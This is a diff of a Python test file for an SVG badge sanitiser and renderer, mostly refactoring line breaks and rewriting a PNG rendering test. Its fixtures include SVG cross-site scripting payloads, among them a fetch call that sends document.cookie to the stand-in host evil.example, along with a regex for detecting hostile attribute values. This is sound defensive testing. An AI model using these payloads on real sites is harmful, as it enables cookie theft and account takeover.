@@ -57,7 +57,8 @@ def assert_inert(data: bytes) -> None:
             if attribute.name.startswith("xmlns"):
                 continue
             assert not name.startswith("on"), attribute.name
-            assert not re.search(r"(java|vb)script|data:(?!image/png;base64,)|expression|@import|\\", value, re.I)
+            hostile = r"(java|vb)script|data:(?!image/png;base64,)|expression|@import|\\"
+            assert not re.search(hostile, value, re.I), value
             if name == "href":
                 assert re.fullmatch(r"#[\w.-]+", value) or (
                     element.localName == "image" and value.startswith("data:image/png;base64,")), value
@@ -77,12 +78,13 @@ EVIL_SVG_B64 = base64.b64encode(svg('<script>alert(1)</script>')).decode()
 
 XSS = {
     "script": svg('<script type="text/javascript">alert(document.cookie)</script><circle r="40"/>'),
-    "script_cdata": svg('<script><![CDATA[fetch("//evil.example/?"+document.cookie)]]></script><rect width="9"/>'),
+    "script_cdata": svg('<script><![CDATA[fetch("//evil.example/?"+document.cookie)]]></script>'
+                        '<rect width="9"/>'),
     "onload_root": svg('<rect width="10" height="10"/>',
                        f'<svg xmlns="{SVG_NS}" onload="alert(1)" viewBox="0 0 10 10">'),
     "onclick_shape": svg('<circle r="40" onclick="alert(1)" onmouseover="alert(2)"/>'),
     "xlink_javascript_use": svg('<use xlink:href="javascript:alert(1)"/><rect width="9"/>'),
-    "a_javascript": svg('<a xlink:href="javascript:alert(document.domain)"><rect width="50" height="50"/></a>'),
+    "a_javascript": svg('<a xlink:href="javascript:alert(document.domain)"><rect width="50"/></a>'),
     "a_javascript_obfuscated": svg('<a href=" jav&#x09;ascript:alert(1)"><rect width="50" height="50"/></a>'),
     "a_data_html": svg(f'<a href="data:text/html;base64,{HTML_B64}"><circle r="40"/></a>'),
     "foreign_object_html": svg(
@@ -94,12 +96,13 @@ XSS = {
     "css_expression": svg('<rect width="10" height="10" style="width:expression(alert(1));fill:red"/>'),
     "css_url_javascript_attr": svg('<rect width="10" height="10" style="fill:url(javascript:alert(1))"/>'),
     "css_url_javascript_sheet": svg('<style>rect{fill:url("javascript:alert(1)")}</style><rect width="9"/>'),
-    "css_import": svg('<style>@import url(https://evil.example/x.css); rect{fill:red}</style><rect width="9"/>'),
+    "css_import": svg('<style>@import url(https://evil.example/x.css); rect{fill:red}</style>'
+                      '<rect width="9"/>'),
     "css_escape": svg('<style>rect{fill:u\\72l(javascript:alert(1))}</style><rect width="9"/>'),
     "css_external_url": svg('<rect width="9" fill="url(https://evil.example/p.svg#g)"/>'),
     "use_external_document": svg('<use href="https://evil.example/sprite.svg#icon"/><rect width="9"/>'),
     "use_data_svg": svg(f'<use xlink:href="data:image/svg+xml;base64,{EVIL_SVG_B64}#x"/><rect width="9"/>'),
-    "image_external": svg('<image href="https://evil.example/track.png" width="10" height="10"/><rect width="9"/>'),
+    "image_external": svg('<image href="https://evil.example/track.png" width="10"/><rect width="9"/>'),
     "image_data_svg": svg(f'<image href="data:image/svg+xml;base64,{EVIL_SVG_B64}" width="10" height="10"/>'),
     "fe_image_external": svg('<filter id="f"><feImage xlink:href="https://evil.example/x.png"/></filter>'
                              '<rect width="9" filter="url(#f)"/>'),
@@ -169,7 +172,8 @@ def test_allow_list_keeps_only_raster_data_in_images_and_re_encodes_them():
     (raster("GIF"), "unsupported_type"),
 ])
 def test_a_bad_embedded_raster_refuses_the_svg(payload, code):
-    data = svg(f'<image width="10" height="10" href="data:image/png;base64,{base64.b64encode(payload).decode()}"/>')
+    uri = "data:image/png;base64," + base64.b64encode(payload).decode()
+    data = svg(f'<image width="10" height="10" href="{uri}"/>')
     with pytest.raises(ArtworkError) as caught:
         prepare_upload(data, "x.svg")
     assert caught.value.code == code
@@ -190,7 +194,8 @@ INKSCAPE = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
   <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:zoom="0.35"/>
   <metadata id="metadata5"><rdf:RDF><dc:title>Badge</dc:title></rdf:RDF></metadata>
   <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
-    <circle style="fill:url(#g1);stroke:#333333;stroke-width:2;-inkscape-stroke:none" cx="105" cy="105" r="90"/>
+    <circle style="fill:url(#g1);stroke:#333333;stroke-width:2;-inkscape-stroke:none"
+            cx="105" cy="105" r="90"/>
     <text style="font-size:40px;font-family:sans-serif;fill:#ffffff" x="60" y="120">A+</text>
   </g>
 </svg>"""
@@ -380,7 +385,8 @@ def test_default_badge_is_accessible_and_legible():
     badge = parseString(default_badge("Université Paris Cité", "certificate", "o-1").data).documentElement
     title = badge.getElementsByTagName("title")[0]
     assert title.firstChild.data == "Université Paris Cité"
-    assert badge.getAttribute("role") == "img" and badge.getAttribute("aria-labelledby") == title.getAttribute("id")
+    assert badge.getAttribute("role") == "img"
+    assert badge.getAttribute("aria-labelledby") == title.getAttribute("id")
     text = badge.getElementsByTagName("text")[0]
     assert text.firstChild.data == "UPC" and text.getAttribute("fill") == "#ffffff"
     for base, _accent in artwork.PALETTE:  # WCAG contrast of the white initials on every base colour
@@ -388,8 +394,9 @@ def test_default_badge_is_accessible_and_legible():
 
 
 @pytest.mark.parametrize("name,label", [
-    ("Licence de Mathématiques", "LM"), ("SQL avancé", "SQL"), ("Python", "PY"), ("Éco-conception", "EC"), ("École", "EC"),
-    ("Brevet d'initiation aéronautique", "BIA"), ("Niveau 2", "N2"), ("東京大学", ""), ("", ""),
+    ("Licence de Mathématiques", "LM"), ("SQL avancé", "SQL"), ("Python", "PY"), ("Éco-conception", "EC"),
+    ("École", "EC"), ("Brevet d'initiation aéronautique", "BIA"), ("Niveau 2", "N2"), ("東京大学", ""),
+    ("", ""),
 ])
 def test_initials(name, label):
     assert artwork._initials(name) == label
@@ -425,7 +432,8 @@ def test_the_png_draws_the_same_design_as_the_svg():
         rgba = image.convert("RGBA")
         assert rgba.getpixel((0, 0))[3] == 0  # outside the hexagon: transparent
         assert "#%02x%02x%02x" % rgba.getpixel((256, 28))[:3] == base  # between the outline and the ring
-        assert rgba.getpixel((256, 262))[:3] == (255, 255, 255) or rgba.getpixel((250, 256))[:3] == (255, 255, 255)
+        label = [rgba.getpixel((x, y))[:3] for x in range(150, 362, 4) for y in range(200, 320, 4)]
+        assert label.count((255, 255, 255)) > 100  # the white initials are drawn
     assert Image.open(io.BytesIO(to_png(badge, 128))).size == (128, 128)
     with pytest.raises(ValueError):
         to_png(badge, 10_000)
@@ -446,16 +454,31 @@ def test_default_badges_bake_as_png_and_svg():
     assert unbake(bake(prepare_upload(INKSCAPE, "b.svg").data, doc))["format"] == "svg"
 
 
-def test_to_png_of_an_upload():
-    uploaded = prepare_upload(raster("PNG", (300, 150)), "logo.png")
-    with Image.open(io.BytesIO(to_png(uploaded, 256))) as image:
+def test_to_png_of_uploads():
+    small = prepare_upload(raster("PNG", (100, 50)), "logo.png")
+    with Image.open(io.BytesIO(to_png(small, 256))) as image:  # scaled up to fit, centred
         assert image.size == (256, 256)
+        assert image.getpixel((5, 128))[3] == 255 and image.getpixel((128, 5))[3] == 0
     with pytest.raises(ArtworkError) as caught:
         to_png(prepare_upload(ILLUSTRATOR, "b.svg"))
     assert caught.value.code == "needs_renderer"
-    # a stored default badge whose drawing was changed is no longer "ours": not redrawn from its parameters
+
+
+def test_to_png_reads_the_design_back_from_the_svg():
+    """Not regenerated from parameters: a stored badge stays drawable when the generator changes, and the
+    PNG shows what the SVG says, or nothing when the SVG holds more than the generator writes."""
     badge = default_badge("Secourisme", "certificate", "ach-42")
-    tampered = Artwork(re.sub(rb'fill="#[0-9a-f]{6}"', b'fill="#000000"', badge.data, count=1), badge.media_type)
-    with pytest.raises(ArtworkError) as caught:
-        to_png(tampered)
-    assert caught.value.code == "needs_renderer"
+    assert artwork._read_design(badge.data) == artwork._design("Secourisme", "certificate", "ach-42")
+    first_fill = re.search(rb'<polygon points="[^"]*" fill="(#[0-9a-f]{6})"', badge.data).group(1)
+    black = Artwork(badge.data.replace(b'fill="' + first_fill + b'"', b'fill="#000000"', 1), badge.media_type)
+    with Image.open(io.BytesIO(to_png(black))) as image:  # the first shape is a ribbon tail, bottom left
+        assert image.getpixel((100, 490))[:3] == (0, 0, 0)
+    for changed in (badge.data.replace(b"</svg>", b'<rect width="9" height="9" fill="#000000"/></svg>'),
+                    badge.data.replace(b'sillage:generator="1"', b""),
+                    badge.data.replace(b'fill="#', b'fill="url(#', 1),
+                    badge.data.replace(b'viewBox="0 0 512 512"', b'viewBox="0 0 10 10"')):
+        with pytest.raises(ArtworkError) as caught:
+            to_png(Artwork(changed, badge.media_type))
+        assert caught.value.code == "needs_renderer"
+    # an upload cannot pass itself off as a generated badge: the sanitiser drops the marker
+    assert b"generator" not in prepare_upload(badge.data, "badge.svg").data
